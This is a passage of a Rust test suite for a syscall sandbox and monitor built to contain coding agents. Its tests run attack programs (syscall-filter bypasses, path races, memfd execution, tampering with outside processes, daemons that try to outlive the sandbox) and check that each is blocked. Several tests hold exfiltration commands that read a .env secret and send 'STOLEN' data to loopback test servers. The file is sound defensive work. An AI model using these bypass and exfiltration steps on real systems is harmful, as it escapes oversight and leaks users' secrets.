//! The attack suite: one program per bypass class in DESIGN.md, each run under the
//! default policy (std::profiles::coding_agent) on the real kernel, each blocked.
//! Network attacks talk to servers this test starts on its own loopback address.

mod common;
use common::net::{Tcp, Udp};
use common::*;
use std::io::Read;
use std::os::unix::net::UnixListener;
use std::time::Duration;

const SIGSYS_EXIT: i32 = 128 + libc::SIGSYS;

/// A probe line saying its call was killed by the policy: by the kernel's filter
/// (SIGSYS), or, with an audit log or `--log-denials` (the logging filter routes
/// kills to the monitor, which reports them and then kills), by SIGKILL.
fn killed_by_the_policy(l: &str) -> bool {
    l.contains("killed by signal 31") || l.contains("killed by signal 9")
}

fn attack(f: &Fixture, args: &[&str]) -> std::process::Output {
    let mut cmd = vec!["./attack"];
    cmd.extend_from_slice(args);
    f.run(&[], &cmd)
}

fn assert_killed(name: &str) {
    let f = Fixture::new(name).with_attack();
    let o = attack(&f, &[name]);
    assert_eq!(
        code(&o),
        SIGSYS_EXIT,
        "{name} must be killed by the filter\n{}",
        show(&o)
    );
    assert!(!stdout(&o).contains("ok="), "{}", show(&o));
    assert!(
        stderr(&o).contains("SIGSYS"),
        "the user is told why\n{}",
        show(&o)
    );
}

#[test]
fn x32_syscall_numbers_kill_the_process() {
    assert_killed("x32");
}

#[test]
fn int_0x80_kills_the_process() {
    assert_killed("int80");
}

#[test]
fn io_uring_kills_the_process() {
    assert_killed("io_uring");
}

#[test]
fn ptrace_kills_the_process() {
    assert_killed("ptrace");
}

#[test]
fn process_vm_writev_kills_the_process() {
    assert_killed("process_vm_writev");
}

#[test]
fn userfaultfd_kills_the_process() {
    assert_killed("userfaultfd");
}

#[test]
fn argument_truncation_cannot_smuggle_tiocsti() {
    let f = Fixture::new("truncation").with_attack();
    let o = attack(&f, &["truncation"]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let out = stdout(&o);
    for what in [
        "ioctl TIOCSTI|1<<32: errno=13",
        "ioctl TIOCSTI: errno=13",
        "ioctl TIOCLINUX: errno=13",
    ] {
        assert!(out.contains(what), "missing `{what}`\n{}", show(&o));
    }
}

#[test]
fn clone3_gets_enosys_and_threads_still_work() {
    let f = Fixture::new("clone3").with_attack();
    let o = attack(&f, &["clone3"]);
    let out = stdout(&o);
    assert!(out.contains("clone3: errno=38"), "{}", show(&o));
    assert!(
        out.contains("pthread_create: ok") && out.contains("fork: ok"),
        "{}",
        show(&o)
    );
}

#[test]
fn proc_self_mem_cannot_be_opened_for_writing() {
    let f = Fixture::new("procmem").with_attack();
    let o = attack(&f, &["proc-mem"]);
    let want = format!("O_RDWR: errno={}", open_refusal(libc::EPERM));
    assert!(stdout(&o).contains(&want), "{}", show(&o));
}

/// The number right after the first `key` in `text` (up to the next white
/// space), if there is one: `good=` in `... good=12 refused=3`.
fn number_after<T: std::str::FromStr>(text: &str, key: &str) -> Option<T> {
    text.split(key).nth(1)?.split_whitespace().next()?.parse().ok()
}

fn assert_race_lost(kind: &str, o: &std::process::Output) {
    let out = stdout(o);
    eprintln!("{kind}: {}", out.trim());
    assert_eq!(code(o), 0, "{kind}: the secret leaked\n{}", show(o));
    assert!(out.contains("leaked=0"), "{}", show(o));
    // The benign half of the race must have worked at least sometimes, or the
    // test shows nothing.
    let good: u32 = number_after(&out, "good=").unwrap_or(0);
    assert!(good > 0, "{kind}: no benign open succeeded\n{}", show(o));
    // And the malicious half was tried: some open met the secret and was refused.
    let refused: u32 = number_after(&out, "refused=").unwrap_or(0);
    assert!(refused > 0, "{kind}: no open met the secret\n{}", show(o));
}

#[test]
fn continue_race_from_a_second_thread_cannot_open_the_secret() {
    let f = Fixture::new("race").with_attack();
    let (ok, secret) = (f.path("ok.txt"), f.secret.display().to_string());
    let o = attack(&f, &["race", &ok, &secret, "3000"]);
    assert_race_lost("thread race", &o);
}

#[test]
fn clone_vm_peer_cannot_rewrite_a_checked_path() {
    let f = Fixture::new("vmrace").with_attack();
    let (ok, secret) = (f.path("ok.txt"), f.secret.display().to_string());
    // Where the kernel decides opens there is no check-then-use gap to race:
    // the kernel copies the path once and Landlock and the tripwires decide on
    // the object it resolves. The attack still runs (it must fail there too),
    // but nothing blocks in open, so the benign half wins less often: more
    // rounds, and the loop goes on until it has won once (progs/attack.c).
    let rounds = if kernel_opens() { "30000" } else { "3000" };
    let o = attack(&f, &["vfork-race", &ok, &secret, rounds]);
    assert_race_lost("CLONE_VM race", &o);
}

#[test]
fn symlink_swap_cannot_redirect_an_open() {
    let f = Fixture::new("swap").with_attack();
    let (link, ok, secret) = (f.path("swap"), f.path("ok.txt"), f.secret.display().to_string());
    // Kernel-decided opens are fast next to the swapper's monitored renames:
    // the link may point at the ordinary file for none of 2,000 opens (measured
    // under the shared machine's load), so more rounds keep the benign half
    // winning sometimes.
    let rounds = if kernel_opens() { "30000" } else { "2000" };
    let o = attack(&f, &["symlink-swap", &link, &ok, &secret, rounds]);
    assert_race_lost("symlink swap", &o);
}

#[test]
fn openat2_and_proc_tricks_cannot_reach_the_secret() {
    let f = Fixture::new("openat2").with_attack();
    std::os::unix::fs::symlink(&f.secret, f.ws.join("link")).unwrap();
    let secret = f.secret.display().to_string();
    let o = attack(&f, &["openat2", &secret, &f.path("link")]);
    assert_eq!(code(&o), 0, "{}", show(&o));
    let out = stdout(&o);
    assert!(out.contains("openat2: leaked=0"), "{}", show(&o));
    // Every attempt to open it for reading failed outright. (An O_PATH handle is
    // only a look, which the profile grants everywhere; re-opening it for reading
    // is decided on what it names, and refused.)
    assert!(
        !out.lines()
            .any(|l| l.contains(": ok=") && !l.starts_with("O_PATH link")),
        "{}",
        show(&o)
    );
    let want = format!("reopen via /proc/self/fd: errno={}", open_refusal(libc::EPERM));
    assert!(out.contains(&want), "{}", show(&o));
}

#[test]
fn memfd_and_tmp_programs_cannot_be_executed() {
    let f = Fixture::new("memfd").with_attack();
    let copy = "/tmp/claw-attack-copy";
    let o = attack(&f, &["memfd-exec", copy]);
    let _ = std::fs::remove_file(copy);
    let out = stdout(&o);
    for what in [
        "execveat(memfd, AT_EMPTY_PATH): errno",
        "execve(/proc/self/fd/N): errno",
        "execve(copy in tmp): errno",
    ] {
        assert!(out.contains(what), "missing `{what}`\n{}", show(&o));
    }
    assert!(out.contains("still here"), "{}", show(&o));
}

#[test]
fn unix_sockets_to_host_daemons_are_refused() {
    let f = Fixture::new("unixd").with_attack();
    let path = f.root.join("daemon.sock");
    let daemon = UnixListener::bind(&path).unwrap();
    daemon.set_nonblocking(true).unwrap();
    let abstract_name = format!("claw-test-daemon-{}", std::process::id());
    let abs = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
        UnixListener::bind_addr(&addr).unwrap()
    };
    abs.set_nonblocking(true).unwrap();
    std::os::unix::fs::symlink(&path, f.ws.join("innocent.sock")).unwrap();
    let o = attack(
        &f,
        &[
            "unix",
            &path.display().to_string(),
            &format!("@{abstract_name}"),
            &f.path("innocent.sock"),
        ],
    );
    let out = stdout(&o);
    assert_eq!(out.matches(": errno=").count(), 3, "{}", show(&o));
    assert!(daemon.accept().is_err(), "the pathname daemon was reached");
    assert!(abs.accept().is_err(), "the abstract daemon was reached");
}

fn with_dotenv(name: &str) -> Fixture {
    let f = Fixture::new(name).with_attack();
    std::fs::write(f.ws.join(".env"), "API_TOKEN=TOP-SECRET\n").unwrap();
    f
}

#[test]
fn exfiltration_by_a_child_process_after_the_parent_read_a_secret() {
    let ip = "127.77.0.11";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("child");
    // Control: before any secret is read, the child may talk to the server.
    let o = f.sh(&format!("./attack fork-then ./attack tcp {ip} 443 hello-before"));
    assert!(stdout(&o).contains("tcp send: ok="), "{}", show(&o));
    assert_eq!(server.received(), "hello-before");
    // The shell reads the secret; then a child process tries.
    let o = f.sh(&format!(
        "cat .env >/dev/null && ./attack fork-then ./attack tcp {ip} 443 STOLEN"
    ));
    // The tainted state allows no sockets at all.
    assert!(stdout(&o).contains("socket: errno=1"), "{}", show(&o));
    assert_eq!(server.received(), "", "the child reached the server");
}

#[test]
fn exfiltration_by_udp_after_reading_a_secret() {
    let ip = "127.77.0.12";
    let server = Udp::new(ip, 53);
    let f = with_dotenv("udp");
    let o = f.sh(&format!("./attack udp {ip} 53 control"));
    assert!(stdout(&o).contains("udp sendmmsg: ok=1"), "{}", show(&o));
    assert_eq!(server.received(), vec!["control", "control"]);
    // The socket exists before the secret is read; the sends come after.
    let o = attack(&f, &["udp", ip, "53", "STOLEN", ".env"]);
    let out = stdout(&o);
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(
        out.contains("udp sendto: errno=1") && out.contains("udp sendmmsg: errno=1"),
        "{}",
        show(&o)
    );
    assert!(server.received().is_empty());
}

#[test]
fn exfiltration_by_dns_after_reading_a_secret() {
    let ip = "127.77.0.13";
    let udp = Udp::new(ip, 53);
    let tcp = Tcp::new(ip, 53);
    let f = with_dotenv("dns");
    // Sockets made before the secret is read: the query and the connection are
    // refused after it; and no new socket can be made at all.
    let o = f.sh(&format!(
        "./attack udp {ip} 53 STOLEN.example.com .env; ./attack udp {ip} 53 AGAIN"
    ));
    let out = stdout(&o);
    assert!(out.contains("udp sendto: errno=1"), "{}", show(&o));
    assert!(out.contains("udp sendmmsg: errno=1"), "{}", show(&o));
    assert!(out.contains("socket: errno=1"), "{}", show(&o));
    let o = attack(&f, &["tcp", ip, "53", "STOLEN", ".env"]);
    assert!(stdout(&o).contains("tcp connect: errno=1"), "{}", show(&o));
    assert!(udp.received().is_empty());
    assert_eq!(tcp.received(), "");
}

/// The monitor decides most opens on the path as written (when no symlink and no
/// `..` is on the way). A secret reached under another name — through a symlink,
/// or by `..` out of a symlinked directory — must still be judged as what it is,
/// and taint the sandbox.
#[test]
fn a_secret_read_under_another_name_still_taints() {
    let ip = "127.77.0.17";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("alias");
    std::os::unix::fs::symlink(".env", f.ws.join("notes.txt")).unwrap();
    // ws/inner -> ws/far/near, so inner/../.env is ws/far/.env to the kernel
    // (lexically it would be ws/.env, here made absent by reading it in a copy).
    std::fs::create_dir_all(f.ws.join("far/near")).unwrap();
    std::fs::write(f.ws.join("far/.env"), "FAR=SECRET\n").unwrap();
    std::os::unix::fs::symlink(f.ws.join("far/near"), f.ws.join("inner")).unwrap();
    // Absolute paths: those are the ones decided as written when they can be.
    let (alias, dotdot) = (f.path("notes.txt"), f.path("inner/../.env"));
    for (how, read) in [
        ("a symlink", format!("cat {alias}")),
        (
            "dotdot out of a symlinked directory",
            format!("rm -f .env && cat {dotdot}"),
        ),
    ] {
        let o = f.sh(&format!("{read} && ./attack tcp {ip} 443 STOLEN"));
        let out = stdout(&o);
        assert!(
            out.contains("SECRET"),
            "{how}: the read itself must work\n{}",
            show(&o)
        );
        assert!(
            out.contains("socket: errno=1") || out.contains("tcp connect: errno=1"),
            "{how}: the read did not taint\n{}",
            show(&o)
        );
    }
    assert_eq!(server.received(), "", "the secret reached the server");
}

#[test]
fn blocked_sends_do_not_make_the_monitor_hold_their_data() {
    // 200 children blocked in a 1 MiB sendmsg each: the monitor once kept a
    // 1 MiB copy per waiting send (200 MiB here, 8 GiB at the 8192 bound).
    let f = Fixture::new("hoard").with_attack();
    let mut c = f.command(&[], &["./attack", "send-hoard", "200", "6"]);
    c.stdout(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut first = [0u8; 64];
    let k = out.read(&mut first).unwrap();
    let line = String::from_utf8_lossy(&first[..k]).into_owned();
    assert!(line.contains("senders started: 200"), "{line}");
    std::thread::sleep(Duration::from_secs(3));
    let status = std::fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap();
    let rss_kb: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    let threads: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("Threads:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap();
    assert!(
        threads > 150,
        "the sends were not waiting in the monitor: {threads} threads"
    );
    assert!(
        rss_kb < 100 * 1024,
        "clawless holds {rss_kb} kB for 200 waiting sends"
    );
    let _ = child.wait();
}

#[test]
fn a_root_agent_keeps_no_admin_capabilities() {
    // With CAP_LINUX_IMMUTABLE (CAP_SYS_ADMIN, CAP_NET_ADMIN...) a root agent could
    // make a file it may only read append-only or immutable through a read-only
    // descriptor (ioctl is allowed), freeze the filesystem (FIFREEZE), or
    // reconfigure the host's network. Only meaningful as root.
    // SAFETY: geteuid takes nothing and cannot fail.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: not root");
        return;
    }
    let f = Fixture::new("caps").with_attack();
    let bashrc = f.home.join(".bashrc");
    std::fs::write(&bashrc, "# ~/.bashrc\n").unwrap();
    let target = bashrc.display().to_string();
    // The channel: outside the sandbox the same program can set the flag here.
    let outside = std::process::Command::new(f.ws.join("attack"))
        .args(["caps", &target])
        .output()
        .unwrap();
    let out = stdout(&outside);
    if !out.contains("setflags append: ok=0") {
        eprintln!("skipped: this filesystem has no append-only flag\n{out}");
        return;
    }
    let o = attack(&f, &["caps", &target]);
    let out = stdout(&o);
    assert!(out.contains("open read-only: ok="), "{}", show(&o));
    // Kept: a container root's file and identity capabilities (0x4fb); none of
    // CAP_LINUX_IMMUTABLE (9), CAP_NET_ADMIN (12), CAP_SYS_ADMIN (21)...
    for set in ["CapEff", "CapPrm", "CapBnd"] {
        let line = out.lines().find(|l| l.starts_with(&format!("{set}:")));
        let bits = line.and_then(|l| u64::from_str_radix(l[7..].trim(), 16).ok());
        assert!(
            bits.is_some_and(|b| b & !0x4fb == 0),
            "{set} holds more than the kept capabilities\n{}",
            show(&o)
        );
    }
    for set in ["CapInh", "CapAmb"] {
        assert!(
            out.contains(&format!("{set}:\t0000000000000000")),
            "{set} not empty\n{}",
            show(&o)
        );
    }
    assert!(out.contains("setflags append: errno=1"), "{}", show(&o));
}

#[test]
fn a_secret_read_while_a_send_is_being_decided_is_not_sent() {
    // Six threads send a 1024-iovec datagram whose last iovec is a buffer the
    // main thread then reads .env into. The monitor copied the data after the
    // decision: sends decided before the transition went out with the secret.
    let ip = "127.77.0.42";
    let server = Udp::new(ip, 53);
    let f = with_dotenv("judgerace");
    let o = attack(&f, &["judge-race", ip, "53", ".env"]);
    let out = stdout(&o);
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(out.contains("read secret: ok=21"), "{}", show(&o));
    assert!(out.contains("send after: errno=1"), "{}", show(&o));
    let got = server.received();
    assert!(
        got.iter().any(|d| d.contains("race-before")),
        "the channel must work first\n{}",
        show(&o)
    );
    assert!(
        !got.iter().any(|d| d.contains("TOP-SECRET")),
        "the secret reached the server ({} of {} datagrams)",
        got.iter().filter(|d| d.contains("TOP-SECRET")).count(),
        got.len()
    );
}

#[test]
fn a_secret_unlinked_behind_a_handle_and_reopened_still_taints() {
    // O_PATH on .env (a look), unlink .env, open /proc/self/fd/N: the kernel
    // names the object "/ws/.env (deleted)", which no secret pattern matched.
    let ip = "127.77.0.41";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("deleted");
    let o = attack(&f, &["deleted-reopen", ".env", ip, "443"]);
    let out = stdout(&o);
    assert!(out.contains("write before: ok=7"), "{}", show(&o));
    assert!(out.contains("open O_PATH: ok="), "{}", show(&o));
    assert!(out.contains("unlink: ok=0"), "{}", show(&o));
    assert!(
        out.contains("read the secret"),
        "the reopen must work\n{}",
        show(&o)
    );
    assert!(out.contains("write after: errno=32"), "{}", show(&o));
    assert!(
        out.contains("socket: errno=1") || out.contains("connect after: errno=1"),
        "{}",
        show(&o)
    );
    assert_eq!(server.received(), "before\n", "the secret reached the server");
}

#[test]
fn an_already_open_tcp_socket_is_shut_down_when_a_secret_is_read() {
    let ip = "127.77.0.14";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("holdtcp");
    let o = attack(&f, &["hold", "tcp", ip, "443", ".env"]);
    let out = stdout(&o);
    assert!(out.contains("write before: ok=7"), "{}", show(&o));
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(out.contains("write after: errno=32"), "{}", show(&o));
    assert!(out.contains("send after: errno="), "{}", show(&o));
    assert!(out.contains("write after (dup): errno=32"), "{}", show(&o));
    assert_eq!(server.received(), "before\n");
}

#[test]
fn a_socket_hidden_in_flight_while_the_secret_is_read_is_still_revoked() {
    let ip = "127.77.0.16";
    let server = Tcp::new(ip, 443);
    let f = with_dotenv("inflight");
    let o = attack(&f, &["inflight", ip, "443", ".env"]);
    let out = stdout(&o);
    assert!(out.contains("write before: ok=7"), "{}", show(&o));
    assert!(out.contains("send fd: ok=1"), "{}", show(&o));
    assert!(out.contains("open secret: ok="), "{}", show(&o));
    assert!(out.contains("recv fd: ok=1"), "{}", show(&o));
    assert!(out.contains("write after: errno=32"), "{}", show(&o));
    assert_eq!(server.received(), "before\n");
}

#[test]
fn an_already_connected_udp_socket_is_revoked_when_a_secret_is_read() {
    let ip = "127.77.0.15";
    let server = Udp::new(ip, 53);
    let f = with_dotenv("holdudp");
    let o = attack(&f, &["hold", "udp", ip, "53", ".env"]);
    let out = stdout(&o);
    assert!(out.contains("write before: ok=7"), "{}", show(&o));
    assert!(out.contains("write after: errno="), "{}", show(&o));
    assert!(out.contains("send after: errno="), "{}", show(&o));
    assert_eq!(server.received(), vec!["before\n"]);
}

#[test]
fn if_the_monitor_dies_the_sandbox_gains_nothing() {
    let f = Fixture::new("monitordeath");
    // The script would outlive the monitor; it must not get to read or write.
    let script =
        "sleep 2; cat ok.txt && echo READ-AFTER-DEATH; echo x > new.txt && echo WROTE-AFTER-DEATH; echo END";
    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", script]));
    std::thread::sleep(Duration::from_millis(700));
    // SAFETY: kill(2) with integer arguments touches no memory of ours; the pid is a child this test started (at worst the signal misses).
    unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
    // The orphaned shell keeps the pipes open until it ends.
    let o = wait_with_deadline(child, Duration::from_secs(60));
    let mut rest = String::new();
    let out = stdout(&o);
    rest.push_str(&out);
    // Long enough for the script's `sleep 2` to end, had it survived.
    std::thread::sleep(Duration::from_millis(2500));
    // The command dies with clawless (isolated: with the whole namespace;
    // mediated: PR_SET_PDEATHSIG). What it detached is covered by
    // `nothing_outlives_sigkill_of_clawless`.
    assert!(!rest.contains("END"), "nothing outlives clawless\n{}", show(&o));
    assert!(!rest.contains("READ-AFTER-DEATH"), "{}", show(&o));
    assert!(!rest.contains("WROTE-AFTER-DEATH"), "{}", show(&o));
    assert!(!rest.contains("ordinary workspace file"), "{}", show(&o));
    assert!(!f.ws.join("new.txt").exists());
}

// ---- processes outside the sandbox, and the sandbox's own lifetime ----

/// Pids whose command line contains `mark` (the test's own process excluded).
fn processes_marked(mark: &str) -> Vec<i32> {
    let me = std::process::id() as i32;
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
        .filter(|&p| p != me)
        .filter(|p| {
            std::fs::read(format!("/proc/{p}/cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(mark))
        })
        .collect()
}

fn status_field(pid: u32, field: &str) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix(field).map(|v| v.trim().to_string()))
        .unwrap_or_default()
}

/// What the attacks could change about a process: its file-size limit, nice
/// value, CPU affinity, scheduling policy.
fn observable(pid: u32) -> (String, String, String, String) {
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap_or_default();
    let fsize = limits
        .lines()
        .find(|l| l.starts_with("Max file size"))
        .unwrap_or("")
        .to_string();
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    let after: Vec<String> = stat
        .rfind(')')
        .map(|i| stat[i + 2..].split(' ').map(String::from).collect())
        .unwrap_or_default();
    // Fields 19 (nice) and 41 (policy), counted from 1 with pid and comm first.
    let nice = after.get(16).cloned().unwrap_or_default();
    let policy = after.get(38).cloned().unwrap_or_default();
    (fsize, nice, status_field(pid, "Cpus_allowed_list:"), policy)
}

#[test]
fn processes_outside_the_sandbox_cannot_be_named_or_tampered_with() {
    let f = Fixture::new("pidtamper").with_attack();
    let mut outside = std::process::Command::new("sleep").arg("120").spawn().unwrap();
    let op = outside.id();
    let before_outside = observable(op);
    let audit = f.root.join("audit.jsonl");
    let pidfile = f.path("monitor.pid");
    let targets = [
        "ppid".to_string(),
        "1".into(),
        format!("file:{pidfile}"),
        op.to_string(),
    ];
    let mut args = vec!["./attack", "pid-tamper"];
    args.extend(targets.iter().map(String::as_str));
    let child = spawn_piped(f.command(&["--audit-log", audit.to_str().unwrap()], &args));
    let monitor = child.id();
    let before_monitor = observable(monitor);
    std::fs::write(&pidfile, monitor.to_string()).unwrap();
    // While the attack sleeps after tampering, clawless is looked at.
    assert!(
        wait_for_file(&f.ws.join("tampered"), Duration::from_secs(60)),
        "the attack never got to its end"
    );
    let after_monitor = observable(monitor);
    // clawless raised its own descriptor limit to the hard one.
    let limits = std::fs::read_to_string(format!("/proc/{monitor}/limits")).unwrap();
    let files: Vec<&str> = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .map(|l| l.split_whitespace().skip(3).take(2).collect())
        .unwrap_or_default();
    assert!(files.len() == 2 && files[0] == files[1], "{limits}");
    let o = wait_with_deadline(child, Duration::from_secs(60));
    let after_outside = observable(op);
    // SAFETY: signal 0 only asks whether the pid exists; no memory is touched.
    let outside_alive = unsafe { libc::kill(op as i32, 0) } == 0;
    let _ = outside.kill();
    let _ = outside.wait();
    let out = stdout(&o);
    assert_eq!(code(&o), 0, "{}", show(&o));
    assert!(out.contains("pid-tamper done"), "{}", show(&o));
    for t in &targets {
        for call in [
            "prlimit64 FSIZE",
            "setpriority",
            "sched_setaffinity",
            "sched_setscheduler",
            "ioprio_set",
            "kill",
            "tgkill",
            "pidfd_open",
            "kcmp",
            "migrate_pages",
            "move_pages",
            "get_robust_list",
        ] {
            let line = format!("{call} {t}: ");
            let l = out.lines().find(|l| l.starts_with(&line));
            let l = l.unwrap_or_else(|| panic!("`{line}` did not run\n{}", show(&o)));
            // Isolated, pidfd_open of our init may succeed: every use of it fails.
            let may = call == "pidfd_open" && (t == "1" || t == "ppid") && !mediated();
            let refused = l.contains("errno=") || killed_by_the_policy(l);
            assert!(may || refused, "{l}\n{}", show(&o));
        }
    }
    for l in out
        .lines()
        .filter(|l| l.starts_with("pidfd_send_signal") || l.starts_with("process_madvise"))
    {
        assert!(
            l.contains("errno=") || killed_by_the_policy(l),
            "{l}\n{}",
            show(&o)
        );
    }
    for call in [
        "setpriority PRIO_PGRP 0",
        "setpriority PRIO_USER 0",
        "ioprio_set WHO_USER 0",
    ] {
        assert!(out.contains(&format!("{call}: errno=1 ")), "{call}\n{}", show(&o));
    }
    assert!(out.contains("open after: ok="), "{}", show(&o));
    assert!(out.contains("open at end: ok="), "{}", show(&o));
    assert_eq!(
        before_monitor,
        after_monitor,
        "clawless was changed\n{}",
        show(&o)
    );
    assert_eq!(before_outside, after_outside, "the outside process was changed");
    assert!(outside_alive, "the outside process was killed");
    // The monitor still logged the last decision (an FSIZE of 0 would have failed it).
    let log = std::fs::read_to_string(&audit).unwrap_or_default();
    assert!(log.matches("ok.txt").count() >= 2, "audit log:\n{log}");
}

fn daemon_logs_running(base: &str) -> bool {
    (0..2).all(|k| std::fs::read_to_string(format!("{base}.{k}")).is_ok_and(|t| t.contains("open: ")))
}

#[test]
fn nothing_outlives_a_normal_exit() {
    let f = Fixture::new("outlive").with_attack();
    let mark = format!("claw-outlive-{}", std::process::id());
    let logs = f.path("daemon.log");
    let o = attack(&f, &["daemons", &mark, &logs]);
    assert!(stdout(&o).contains("daemons started"), "{}", show(&o));
    assert!(daemon_logs_running(&logs), "the daemons never ran\n{}", show(&o));
    std::thread::sleep(Duration::from_millis(300));
    let left = processes_marked(&mark);
    for p in &left {
        // SAFETY: kill(2) with integer arguments touches no memory of ours; the pid is a child this test started (at worst the signal misses).
        unsafe { libc::kill(*p, libc::SIGKILL) };
    }
    assert!(left.is_empty(), "survivors: {left:?}\n{}", show(&o));
}

#[test]
fn nothing_outlives_sigkill_of_clawless() {
    let f = Fixture::new("outlivekill").with_attack();
    let mark = format!("claw-outlivekill-{}", std::process::id());
    let logs = f.path("daemon.log");
    let child = spawn_piped(f.command(&[], &["./attack", "daemons", &mark, &logs, "wait"]));
    assert!(
        wait_until(Duration::from_secs(60), Duration::from_millis(20), || {
            daemon_logs_running(&logs)
        }),
        "the daemons never ran"
    );
    assert!(
        processes_marked(&mark).len() >= 3,
        "the command and both daemons run"
    );
    // SAFETY: kill(2) with integer arguments touches no memory of ours; the pid is a child this test started (at worst the signal misses).
    unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    let mut left = processes_marked(&mark);
    while !left.is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
        left = processes_marked(&mark);
    }
    if mediated() {
        // Documented limit: without a pid namespace, processes that left the tree
        // survive a SIGKILL of clawless. They can do nothing the monitor decides.
        std::thread::sleep(Duration::from_millis(500));
        for k in 0..2 {
            let log = std::fs::read_to_string(format!("{logs}.{k}")).unwrap();
            let last = log.lines().last().unwrap_or("");
            assert!(
                last.starts_with("open: -1"),
                "a survivor's open after the monitor died: {last}"
            );
        }
        for p in &left {
            // SAFETY: kill(2) with integer arguments touches no memory of ours; the pid is a child this test started (at worst the signal misses).
            unsafe { libc::kill(*p, libc::SIGKILL) };
        }
    } else {
        for p in &left {
            // SAFETY: kill(2) with integer arguments touches no memory of ours; the pid is a child this test started (at worst the signal misses).
            unsafe { libc::kill(*p, libc::SIGKILL) };
        }
        assert!(left.is_empty(), "survivors of SIGKILL: {left:?}");
    }
    let _ = wait_with_deadline(child, Duration::from_secs(30));
}

#[test]
fn no_spelling_of_proc_self_reaches_the_monitors_descriptors() {
    let f = Fixture::new("procspell").with_attack();
    let audit = f.root.join("audit.jsonl");
    let o = f.run(
        &["--audit-log", audit.to_str().unwrap()],
        &["./attack", "proc-spellings", "audit.jsonl"],
    );
    let out = stdout(&o);
    assert!(
        out.contains("proc-spellings: tried=832 reached=0"),
        "{}",
        show(&o)
    );
    let log = std::fs::read_to_string(&audit).unwrap();
    assert!(!log.is_empty(), "the audit log was written (and not truncated)");
    assert!(!log.contains("ATTACKER"), "{log}");
}

#[test]
fn proc_of_a_process_outside_the_sandbox_is_refused() {
    let f = Fixture::new("procout").with_attack();
    let private = f.root.join("private.txt");
    std::fs::write(&private, SECRET).unwrap();
    let mut outside = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(format!(
            "exec 7<'{}'; rm '{}'; exec sleep 120",
            private.display(),
            private.display()
        ))
        .spawn()
        .unwrap();
    let op = outside.id();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while (private.exists() || std::fs::read_link(format!("/proc/{op}/fd/7")).is_err())
        && std::time::Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    // The channel exists: the outside process holds the deleted secret as fd 7.
    let held = std::fs::read_to_string(format!("/proc/{op}/fd/7")).unwrap_or_default();
    assert_eq!(held, SECRET, "the outside process holds the deleted file");
    let o = attack(&f, &["proc-outside", &op.to_string(), "7"]);
    let _ = outside.kill();
    let _ = outside.wait();
    let out = stdout(&o);
    assert!(out.contains("proc-outside: leaked=0"), "{}", show(&o));
    assert!(out.contains("symlink to it: errno="), "{}", show(&o));
    let opened: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("/proc/") || l.starts_with("//proc/"))
        .collect();
    assert_eq!(opened.len(), 7, "{}", show(&o));
    for l in opened {
        assert!(l.contains(": errno="), "{l}\n{}", show(&o));
    }
}

#[test]
fn programs_in_never_executable_dirs_cannot_run_by_any_route() {
    // /tmp: `deny exec tmp`; /dev/shm: writable (`devices`), never executable
    // because no state grants exec there (no deny rule names it).
    for dir in ["/tmp", "/dev/shm"] {
        never_executable_dir(dir);
    }
}

fn never_executable_dir(dir: &str) {
    let f = Fixture::new("tmpexec").with_attack();
    let copy = format!("{dir}/claw-tmpexec-{}", std::process::id());
    let ld = "/lib64/ld-linux-x86-64.so.2";
    assert!(std::path::Path::new(ld).exists(), "this test needs {ld}");
    let o = attack(&f, &["tmp-exec", &copy, ld]);
    let _ = std::fs::remove_file(&copy);
    let out = stdout(&o);
    assert!(out.contains("tmp-exec done"), "{}", show(&o));
    assert!(out.contains("copied: ok="), "{}", show(&o));
    assert!(
        out.contains("execve(copy): errno="),
        "Landlock refuses exec in both modes\n{}",
        show(&o)
    );
    assert!(out.contains("open copy: ok="), "{}", show(&o));
    assert!(out.contains("mmap(PROT_READ): ok="), "{}", show(&o));
    if mediated() {
        // Documented limit (docs/threat-model.md): without a mount namespace, the
        // loader maps the file PROT_EXEC and runs it; the code is still under the
        // filter and the monitor.
        assert!(out.contains("EXECUTED-THE-COPY"), "{}", show(&o));
        assert!(out.contains("mmap(PROT_EXEC): ok="), "{}", show(&o));
    } else {
        assert!(!out.contains("EXECUTED-THE-COPY"), "{}", show(&o));
        assert!(out.contains("mmap(PROT_EXEC): errno="), "{}", show(&o));
        assert!(out.contains("mprotect(PROT_EXEC): errno="), "{}", show(&o));
    }
}

/// Malformed message headers, each sent 600 times (more than the monitor ever
/// had workers): a control message whose `cmsg_len` wraps the walk (the bug that
/// pinned a worker at 100% CPU for ever), zero, huge, short and unaligned
